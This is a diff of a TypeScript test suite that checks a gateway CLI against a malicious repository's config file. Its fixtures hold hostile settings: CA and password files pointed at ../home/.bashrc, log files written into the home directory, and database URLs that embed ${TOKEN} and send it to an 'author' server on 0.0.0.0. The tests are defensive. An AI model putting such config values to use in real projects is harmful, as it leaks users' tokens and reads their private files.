@@ -10,13 +10,13 @@ import { Placeholders } from '../../../src/policy/mask/placeholders.ts';
 import { requestFor } from '../../kit/answers.ts';
 import { command, homeWith, startCommand, withoutStore } from '../../kit/command.ts';
 import { listening } from '../../kit/listening.ts';
+import { head, sendRaw } from '../../kit/raw.ts';
 import { isExhaustive, scale } from '../../kit/scale.ts';
 
 // A repository that is made to harm: each setting that reaches outside of the file, by every command. The server of its
 // author listens on this machine, at 0.0.0.0, which is no loopback address and yet leads here.
 
 const token = 'ghp_of-the-user-and-nobody-else';
-const password = 'correct horse battery staple';
 const address = 'rosa@plants.example';
 const maskSecret = 'known-to-the-author-of-the-repository';
 /** What its author looks for, to know that the address was there. */
@@ -65,11 +65,10 @@ function clone(yaml: string): Place {
 }
 
 const sandbox = 'providers: { s: { dialect: sandbox } }\nmodels: [{ match: "*", provider: s }]\n';
-const storeless = withoutStore;
 const provider = (settings: string) =>
-  `providers: { p: { dialect: openai, endpoints: [chat], ${settings} } }\nmodels: [{ match: "*", provider: p }]\n${storeless}`;
+  `providers: { p: { dialect: openai, endpoints: [chat], ${settings} } }\nmodels: [{ match: "*", provider: p }]\n${withoutStore}`;
 const key = (settings: string) =>
-  `${sandbox}${storeless}projects: { shop: { keys: [{ id: one, ${settings} }] } }\n`;
+  `${sandbox}${withoutStore}projects: { shop: { keys: [{ id: one, ${settings} }] } }\n`;
 
 /** What its author would write, by what a setting reaches, and by which command it takes effect. */
 const attacks: Readonly<Record<Exclude<Reach, 'nothing'>, readonly (readonly [string, () => string])[]>> = {
@@ -80,7 +79,7 @@ const attacks: Readonly<Record<Exclude<Reach, 'nothing'>, readonly (readonly [st
   authorities: [['config check', () => provider('base_url: "http://127.0.0.1:1", ca_file: ../home/.bashrc')]],
   'key file': [
     ['key list', () => key('file: ../home/key')],
-    ['config check', () => `${sandbox}${storeless}inspector: { password_file: ../home/.bashrc }\n`],
+    ['config check', () => `${sandbox}${withoutStore}inspector: { password_file: ../home/.bashrc }\n`],
   ],
   'mask secret': [
     [
@@ -90,19 +89,19 @@ policies: { p: { apply: all, rules: [{ id: r, action: mask, when: { text: { dete
 `,
     ],
   ],
-  records: [['serve', () => `${sandbox}${storeless}records: { file: ../home/new.jsonl }\n`]],
-  bodies: [['serve', () => `${sandbox}${storeless}records: { file: ../home/new.jsonl, bodies: true }\n`]],
+  records: [['serve', () => `${sandbox}${withoutStore}records: { file: ../home/new.jsonl }\n`]],
+  bodies: [['serve', () => `${sandbox}${withoutStore}records: { file: ../home/new.jsonl, bodies: true }\n`]],
   'usage file': [
-    ['serve', () => `${sandbox}${storeless}records: { ledger: true, ledger_file: ../home/u.sqlite }\n`],
+    ['serve', () => `${sandbox}${withoutStore}records: { ledger: true, ledger_file: ../home/u.sqlite }\n`],
   ],
   'usage database': [
     [
       'doctor',
       () =>
-        `${sandbox}${storeless}records: { ledger: true, ledger_database: "postgres://\${TOKEN}@0.0.0.0:${port}/d?sslmode=disable" }\n`,
+        `${sandbox}${withoutStore}records: { ledger: true, ledger_database: "postgres://\${TOKEN}@0.0.0.0:${port}/d?sslmode=disable" }\n`,
     ],
   ],
-  counters: [['doctor', () => `${sandbox}${storeless}state: "redis://:\${TOKEN}@0.0.0.0:${port}/0"\n`]],
+  counters: [['doctor', () => `${sandbox}${withoutStore}state: "redis://:\${TOKEN}@0.0.0.0:${port}/0"\n`]],
   store: [
     [
       'plants search',
@@ -118,76 +117,69 @@ policies: { p: { apply: all, rules: [{ id: r, action: mask, when: { text: { dete
     ],
   ],
   listener: [
-    ['serve', () => `${sandbox}${storeless}server: { host: 0.0.0.0 }\n`],
+    ['serve', () => `${sandbox}${withoutStore}server: { host: 0.0.0.0 }\n`],
     ['plants serve', () => 'plants: { store: { host: 0.0.0.0, port: 0 } }\n'],
   ],
-  'host name': [['serve', () => `${sandbox}${storeless}server: { allowed_hosts: [author.example] }\n`]],
+  'host name': [['serve', () => `${sandbox}${withoutStore}server: { allowed_hosts: [author.example] }\n`]],
   origin: [
-    ['serve', () => `${sandbox}${storeless}server: { allowed_origins: ["https://author.example"] }\n`],
+    ['serve', () => `${sandbox}${withoutStore}server: { allowed_origins: ["https://author.example"] }\n`],
   ],
 };
 
-const commands: Readonly<Record<string, { readonly words: readonly string[]; readonly stdin?: string }>> = {
-  serve: { words: ['serve', '-p', '0', '--log', 'json'] },
-  'plants serve': { words: ['plants', 'serve', '-p', '0'] },
-  run: { words: ['run', 'claude'] },
-  send: { words: ['send', 'hello'] },
-  chat: { words: ['chat'], stdin: 'hello\n' },
-  embed: { words: ['embed', '-m', 'm', 'hello'] },
-  models: { words: ['models'] },
-  env: { words: ['env', 'claude'] },
-  usage: { words: ['usage'] },
-  logs: { words: ['logs'] },
-  'logs search': { words: ['logs', 'search', 'alias'] },
-  'logs rm': { words: ['logs', 'rm', '--all'] },
-  'key list': { words: ['key', 'list'] },
-  'key revoke': { words: ['key', 'revoke', 'one'] },
-  'config check': { words: ['config', 'check'] },
-  'config show': { words: ['config', 'show'] },
-  'config path': { words: ['config', 'path'] },
-  doctor: { words: ['doctor', '--timeout', '2'] },
-  'policy test': { words: ['policy', 'test'] },
-  'policy explain': { words: ['policy', 'explain', 'request.json', '--endpoint', 'chat'] },
-  'plants search': { words: ['plants', 'search', '--timeout', '5'] },
-  login: { words: ['login', '-u', 'rosa', '--password-stdin', '--timeout', '5'], stdin: `${password}\n` },
-  whoami: { words: ['whoami', '--timeout', '5'] },
-  'trust --list': { words: ['trust', '--list'] },
-  status: { words: ['status'] },
-  open: { words: ['open', '--no-browser'] },
-  stop: { words: ['stop'] },
-  'logs show': { words: ['logs', 'show', 'req_1'] },
-  'key new': { words: ['key', 'new', '--project', 'shop'] },
-  'key show': { words: ['key', 'show', '--yes'] },
-  'policy replay': { words: ['policy', 'replay', 'records.jsonl'] },
-  'plants get': { words: ['plants', 'get', '1', '--timeout', '5'] },
-  'plants add': { words: ['plants', 'add', 'Fern', '--timeout', '5'] },
-  'plants delete': { words: ['plants', 'delete', '1', '--timeout', '5'] },
-  'plants watch': { words: ['plants', 'watch', '--timeout', '5'] },
-  'plants user add': {
-    words: ['plants', 'user', 'add', 'ivy', '--password-stdin'],
-    stdin: `${password}\n`,
-  },
-  logout: { words: ['logout', '--timeout', '5'] },
+/** Every command, by the name that the table above has for it. */
+const commands: Readonly<Record<string, string>> = {
+  serve: 'serve -p 0 --log json',
+  'plants serve': 'plants serve -p 0',
+  run: 'run claude',
+  send: 'send hello',
+  chat: 'chat',
+  embed: 'embed -m m hello',
+  models: 'models',
+  env: 'env claude',
+  usage: 'usage',
+  logs: 'logs',
+  'logs search': 'logs search alias',
+  'logs rm': 'logs rm --all',
+  'key list': 'key list',
+  'key revoke': 'key revoke one',
+  'config check': 'config check',
+  'config show': 'config show',
+  'config path': 'config path',
+  doctor: 'doctor --timeout 2',
+  'policy test': 'policy test',
+  'policy explain': 'policy explain request.json --endpoint chat',
+  'plants search': 'plants search --timeout 5',
+  login: 'login -u rosa --password-stdin --timeout 5',
+  whoami: 'whoami --timeout 5',
+  'trust --list': 'trust --list',
+  status: 'status',
+  open: 'open --no-browser',
+  stop: 'stop',
+  'logs show': 'logs show req_1',
+  'key new': 'key new --project shop',
+  'key show': 'key show --yes',
+  'policy replay': 'policy replay records.jsonl',
+  'plants get': 'plants get 1 --timeout 5',
+  'plants add': 'plants add Fern --timeout 5',
+  'plants delete': 'plants delete 1 --timeout 5',
+  'plants watch': 'plants watch --timeout 5',
+  'plants user add': 'plants user add ivy --password-stdin',
+  logout: 'logout --timeout 5',
 };
 
-interface Outcome {
-  readonly exit: number;
-  readonly output: string;
-  /** What the author has gained. */
-  readonly gained: readonly string[];
-}
-
-type How = 'found' | 'named' | 'trusted';
-
-async function attempt(name: string, yaml: string, how: How): Promise<Outcome> {
+/** Runs a command where this file is, and tells what its author has gained. */
+async function attempt(name: string, yaml: string, how: 'found' | 'named' | 'trusted') {
   const place = clone(yaml);
   const { repository: cwd, env } = place;
   if (how === 'trusted') await command(['trust'], { cwd, env });
   const before = filesOf(place);
   received.length = 0;
-  const { words, stdin } = commands[name] ?? { words: [] };
-  const named = how === 'named' ? ['-c', 'gateway.yaml'] : [];
-  const running = startCommand([...words, ...named], { cwd, env, ...(stdin === undefined ? {} : { stdin }) });
+  const line = commands[name] ?? '';
+  const running = startCommand(how === 'named' ? `${line} -c gateway.yaml` : line, {
+    ...{ cwd, env },
+    ...(name === 'chat' && { stdin: 'hello\n' }),
+    ...(line.includes('--password-stdin') && { stdin: 'correct horse battery staple\n' }),
+  });
   const gained = new Set<string>();
   if (name === 'serve' || name === 'plants serve') {
     const serving = await Promise.race([
@@ -207,6 +199,16 @@ async function attempt(name: string, yaml: string, how: How): Promise<Outcome> {
   if (/holds no certificate|visible characters and nothing else/.test(output)) gained.add('read a file');
   if (name === 'key list' && /usable/.test(stdout)) gained.add('read a file');
   return { exit, output, gained: [...gained] };
+}
+
+/** What its author gains by commands that find the file. */
+async function gainedBy(names: readonly string[], yaml: string): Promise<readonly string[]> {
+  const gained: string[] = [];
+  for (const name of names) {
+    const outcome = await attempt(name, yaml, 'found');
+    gained.push(...outcome.gained.map((what) => `${name}: ${what}`));
+  }
+  return gained;
 }
 
 /** Uses what was started, as its author or the user would. */
@@ -233,30 +235,15 @@ async function visit(name: string, stderr: string, { env }: Place): Promise<read
   if ((await ask({ authorization, origin: 'https://author.example' })).status !== 403) {
     gained.push('is open to a page');
   }
-  if ((await statusFor('author.example', at)) !== 421) gained.push('is open under a name');
+  const named = await sendRaw(at, head('GET /healthz HTTP/1.1', 'Host: author.example'));
+  if (named.status !== 421) gained.push('is open under a name');
   return gained;
 }
 
 function answers(host: string, at: number): Promise<boolean> {
   return new Promise((resolve) => {
-    const socket = connect(at, host, () => {
-      socket.destroy();
-      resolve(true);
-    });
+    const socket = connect(at, host, () => resolve(socket.destroy() === socket));
     socket.on('error', () => resolve(false));
-  });
-}
-
-function statusFor(host: string, at: number): Promise<number> {
-  return new Promise((resolve, reject) => {
-    const socket = connect(at, '127.0.0.1', () =>
-      socket.write(`GET /healthz HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`),
-    );
-    socket.once('data', (bytes) => {
-      socket.destroy();
-      resolve(Number(/^HTTP\/1.1 (\d+)/.exec(bytes.toString())?.[1]));
-    });
-    socket.on('error', reject);
   });
 }
 
@@ -296,13 +283,9 @@ describe.each(cases)('%s', (_name, effect, yaml, number) => {
   test.runIf(isExhaustive)(
     'found: no command lets its author gain anything',
     async () => {
-      const gained: string[] = [];
-      for (const name of Object.keys(commands).filter((_, i) => (i + number) % 3 === 0)) {
-        const outcome = await attempt(name, yaml(), 'found');
-        gained.push(...outcome.gained.map((what) => `${name}: ${what}`));
-      }
+      const some = Object.keys(commands).filter((_, i) => (i + number) % 3 === 0);
 
-      expect(gained).toEqual([]);
+      expect(await gainedBy(some, yaml())).toEqual([]);
     },
     120_000,
   );
@@ -328,17 +311,11 @@ records: { file: ../home/.bashrc, bodies: true, ledger_database: "postgres://\${
 plants: { base_url: "http://0.0.0.0:${port}/\${TOKEN}", store: { database: "postgres://\${TOKEN}@0.0.0.0:${port}/d" } }
 policies: { p: { apply: all, rules: [{ id: r, action: block, when: { model: [x] }, message: "\${TOKEN}" }] } }
 `;
-  const gained: string[] = [];
-  for (const name of Object.keys(commands)) {
-    const outcome = await attempt(name, yaml, 'found');
-    gained.push(...outcome.gained.map((what) => `${name}: ${what}`));
-  }
-
-  expect(gained).toEqual([]);
+  expect(await gainedBy(Object.keys(commands), yaml)).toEqual([]);
 }, 120_000);
 
 test("files that are appended to are the gateway's own, also where everything was allowed", async () => {
-  const yaml = `${sandbox}${storeless}records: { file: ../home/.bashrc, bodies: true }\n`;
+  const yaml = `${sandbox}${withoutStore}records: { file: ../home/.bashrc, bodies: true }\n`;
 
   for (const how of ['named', 'trusted'] as const) {
     const { exit, output, gained } = await attempt('serve', yaml, how);
